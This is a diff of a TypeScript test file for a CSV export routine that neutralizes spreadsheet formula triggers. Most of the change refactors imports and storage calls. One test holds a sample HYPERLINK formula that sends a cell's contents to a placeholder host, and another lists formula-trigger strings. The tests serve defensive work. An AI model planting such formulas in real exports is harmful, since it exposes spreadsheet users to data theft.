@@ -4,10 +4,11 @@
 import Database from 'better-sqlite3'
 import fc from 'fast-check'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
-import { NEUTRALIZED_LEADS, csvCell, csvCellSql, isNeutralizedLead, unneutralize } from '../src/http/csv-export.js'
+import { NEUTRALIZED_LEADS, csvCell, isNeutralizedLead, unneutralize } from '../src/http/csv-export.js'
+import { CSV_LINE_SQL, csvCellSql } from '../src/storage/sqlite/csv-sql.js'
 import { createKey } from '../src/modules/keys/keys.js'
-import { CSV_COLUMNS, CSV_LINE_SQL, CSV_NUMBER_COLUMNS, CSV_TEXT_COLUMNS, csvLine } from '../src/modules/observations/observations.csv.js'
-import { createObservationRepository, type ObservationRow } from '../src/modules/observations/observations.repository.js'
+import { CSV_COLUMNS, CSV_NUMBER_COLUMNS, CSV_TEXT_COLUMNS, csvLine } from '../src/modules/observations/observations.csv.js'
+import type { ObservationRow } from '../src/storage/ports.js'
 import { buildTestApp, json, type TestContext } from './helpers.js'
 
 /**
@@ -94,7 +95,7 @@ function expectedText(s: string): string {
 }
 
 describe('the rule', () => {
-  it('neutralizes formula triggers in text, keeps numbers exact, and quotes what RFC 4180 requires', () => {
+  it('neutralizes formula triggers in text, keeps numbers exact, and quotes what RFC 4180 requires', async () => {
     expect(csvCell('text', '=HYPERLINK("http://x.example/?"&A1,"click")')).toBe(`"'=HYPERLINK(""http://x.example/?""&A1,""click"")"`)
     for (const s of ['=1+1', '+1', '-5', '@SUM(A1)', '\t=1', '\r=1', ' =1', '\u3000=1', '＝1+1', '＋1', '－1', '＠A', "'x"]) {
       expect(csvCell('text', s), JSON.stringify(s)).toBe(`"'${s}"`)
@@ -110,7 +111,7 @@ describe('the rule', () => {
     expect(csvCell('text', '')).toBe('')
   })
 
-  it('any text: a strict reader gets one field, the neutralized cell; dropping one leading \' gives the original back', () => {
+  it('any text: a strict reader gets one field, the neutralized cell; dropping one leading \' gives the original back', async () => {
     fc.assert(
       fc.property(csvText, (s) => {
         const cell = csvCell('text', s)
@@ -127,7 +128,7 @@ describe('the rule', () => {
     )
   })
 
-  it('any number: written as it is, never prefixed', () => {
+  it('any number: written as it is, never prefixed', async () => {
     fc.assert(
       fc.property(decimal, (d) => {
         expect(csvCell('number', d)).toBe(d)
@@ -135,7 +136,7 @@ describe('the rule', () => {
     )
   })
 
-  it('the lead table is every control, space and format character and every character NFKC reads as = + - @ \'', () => {
+  it('the lead table is every control, space and format character and every character NFKC reads as = + - @ \'', async () => {
     const triggers = /^[=+\-@']/
     const wrong: string[] = []
     for (let c = 0; c <= 0x10ffff; c++) {
@@ -159,7 +160,7 @@ describe('the rule in SQL', () => {
     number: db.prepare(`SELECT '' || (${csvCellSql('number', '@v')})`).pluck(),
   }
 
-  it('agrees with the JavaScript rule on generated text and numbers', () => {
+  it('agrees with the JavaScript rule on generated text and numbers', async () => {
     fc.assert(
       fc.property(csvText, (v) => {
         expect(sql.text.get({ v })).toBe(csvCell('text', v))
@@ -178,7 +179,7 @@ describe('the rule in SQL', () => {
     expect(sql.text.get({ v: null })).toBe('')
   })
 
-  it('agrees at every boundary of the tables, as the first character and inside the text', () => {
+  it('agrees at every boundary of the tables, as the first character and inside the text', async () => {
     const points = new Set<number>()
     for (let c = 0; c < 0x3100; c++) points.add(c)
     for (const [from, to] of NEUTRALIZED_LEADS) for (const c of [from - 1, from, to, to + 1]) points.add(c)
@@ -208,7 +209,7 @@ describe('the line in SQL', () => {
   let id = 0
   const DIRTY = ['indicator', 'area', 'period', 'kind', 'unit', 'qualifier', 'status', 'reportedUnit', 'reportedText', 'sourceId', 'quote', 'involved', 'recordedAt'] as const
 
-  it('equals the JavaScript line whichever column holds the text, clean rows and rows to quote alike', () => {
+  it('equals the JavaScript line whichever column holds the text, clean rows and rows to quote alike', async () => {
     const maybe = (a: fc.Arbitrary<string>) => fc.option(a, { nil: null })
     fc.assert(
       fc.property(
@@ -264,8 +265,8 @@ describe('the export, end to end', () => {
 
   beforeAll(async () => {
     t = await buildTestApp({ build: { config: { databaseUrl: ':memory:', rateLimitPerMinute: 1_000_000 } } })
-    admin = createKey(t.db, 'csv-admin', ['admin']).secret
-    writer = createKey(t.db, 'csv-writer', ['write']).secret
+    admin = (await createKey(t.storage, 'csv-admin', ['admin'])).secret
+    writer = (await createKey(t.storage, 'csv-writer', ['write'])).secret
   })
   afterAll(() => t.close())
 
@@ -299,7 +300,7 @@ describe('the export, end to end', () => {
   async function exported(): Promise<Array<Record<string, string>>> {
     const res = await t.app.inject({ url: '/v1/observations?format=csv' })
     expect(res.statusCode).toBe(200)
-    const rows = await createObservationRepository(t.db).page({}, 0, 1_000_000)
+    const rows = await t.storage.observations.page({}, 0, 1_000_000)
     expect(res.body).toBe(CSV_COLUMNS.join(',') + '\r\n' + rows.map(csvLine).join(''))
     const [header, ...records] = parseStrict(res.body)
     expect(header).toEqual(CSV_COLUMNS)
@@ -309,7 +310,7 @@ describe('the export, end to end', () => {
     })
   }
 
-  it('declares every column text or number, numbers being the ids, values and offsets', () => {
+  it('declares every column text or number, numbers being the ids, values and offsets', async () => {
     expect([...CSV_TEXT_COLUMNS, ...CSV_NUMBER_COLUMNS].sort()).toEqual([...CSV_COLUMNS].sort())
     expect(CSV_NUMBER_COLUMNS).toEqual(['id', 'value', 'reported_value', 'byte_start', 'byte_end', 'revision'])
   })
